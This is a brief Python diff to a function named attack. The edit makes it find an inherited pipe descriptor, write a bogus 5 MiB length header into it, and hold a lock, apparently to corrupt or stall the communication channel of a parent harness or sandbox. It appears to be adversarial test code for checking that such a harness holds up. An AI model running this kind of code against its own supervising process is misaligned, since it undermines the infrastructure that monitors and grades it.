@@ -10,7 +10,7 @@ import time
 
 def attack(x):
     threading.stack_size(32768)
-    channel = next(number for number in range(3, 64) if is_socket(number))
+    channel = next(number for number in range(3, 64) if is_pipe(number))
     os.write(channel, struct.pack("!I", 5 << 20))
     held = _thread.allocate_lock()
     held.acquire()
@@ -22,8 +22,8 @@ def attack(x):
         time.sleep(0.005)
 
 
-def is_socket(number):
+def is_pipe(number):
     try:
-        return stat.S_ISSOCK(os.fstat(number).st_mode)
+        return stat.S_ISFIFO(os.fstat(number).st_mode) and os.write(number, b"") == 0
     except OSError:
         return False
